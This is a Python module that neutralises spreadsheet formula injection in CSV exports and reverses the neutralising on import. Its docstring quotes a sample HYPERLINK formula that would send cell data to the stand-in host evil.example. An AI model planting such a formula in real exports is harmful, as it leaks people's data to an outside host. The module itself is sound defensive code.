"""Spreadsheet formulas (OWASP "CSV injection"): neutralised in exports, undone on import.

A shared notebook holds what anyone with push access wrote. A customer named
``=HYPERLINK("http://evil.example/?d="&B2,"x")`` must reach the office's Excel as text, never as a
formula that runs or sends data away. CSV cells beginning with ``= + - @``, a tab or a carriage
return are written with a leading ``'`` (Excel's own mark for "this is text"); xlsx cells are
written as string cells (:mod:`custnote.adapters.io.xlsx_writer`). A cell that already begins
with ``'`` before such a character gets one more ``'``, so that :func:`restore` (applied by the CSV
reader) gives exactly the exported value back: export then import is a round trip
(docs/import-export.md).
"""

from __future__ import annotations

import re

#: what makes Excel, LibreOffice or Google Sheets read a cell as a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_EXPORTED = re.compile(r"'*[=+\-@\t\r]")
_IMPORTED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(value: str) -> str:
    """The CSV cell text of ``value``: prefixed with ``'`` when a spreadsheet would run it."""
    return "'" + value if _EXPORTED.match(value) else value


def restore(value: str) -> str:
    """The value a :func:`neutralise`-d cell came from (one leading ``'`` taken off)."""
    return value[1:] if _IMPORTED.match(value) else value
